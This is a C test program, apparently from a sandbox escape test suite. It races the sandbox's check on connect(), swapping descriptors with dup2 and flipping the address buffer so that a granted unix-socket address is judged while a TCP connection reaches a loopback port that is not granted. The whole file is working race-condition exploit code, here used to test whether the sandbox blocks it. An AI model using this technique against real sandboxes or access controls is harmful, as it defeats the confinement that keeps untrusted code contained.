// Changes the address in memory and the socket under a descriptor's number while connect reads both: judged as a unix
// socket that is granted, connected by TCP.

#include "attack.h"

static int one, other, used;
static atomic_bool stop;

static void *changing(void *unused) {
  while (!stop) {
    dup2(one, used);
    dup2(other, used);
  }
  return unused;
}

int main(void) {
  struct sockaddr_un granted = unix_path(WORK("mine")), foreign = {0};
  struct sockaddr_in address = loopback("ATTACK_PORT"), peer;
  memcpy(&foreign, &address, sizeof address);
  int server = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
  if (server < 0 || bind(server, (struct sockaddr *)&granted, sizeof granted) || listen(server, 64)) refused("bind");
  struct flip flip = {.buffer = shared_page(), .one = &granted, .other = &foreign, .length = sizeof granted};
  start_flip(&flip);
  used = dup(server);
  one = socket(AF_UNIX, SOCK_STREAM, 0);
  other = socket(AF_INET, SOCK_STREAM, 0);
  if (one < 0 || other < 0) refused("socket");
  pthread_t thread;
  if (pthread_create(&thread, 0, changing, 0)) broken("pthread_create");
  for (int index = 0; index < TRIES; index++) {
    socklen_t length = sizeof peer;
    connect(used, (struct sockaddr *)flip.buffer, sizeof granted);
    if (getpeername(other, (struct sockaddr *)&peer, &length) == 0 && peer.sin_port == address.sin_port)
      won("a port that is not granted was reached, after %d tries", index + 1);
    // A unix socket that is connected would stay so: take another.
    int accepted = accept(server, 0, 0);
    if (accepted < 0) continue;
    close(accepted);
    int fresh = socket(AF_UNIX, SOCK_STREAM, 0);
    if (fresh < 0) refused("socket");
    dup2(fresh, one);
    close(fresh);
  }
  stop = true;
  blocked("0 of %d connects reached it", TRIES);
}
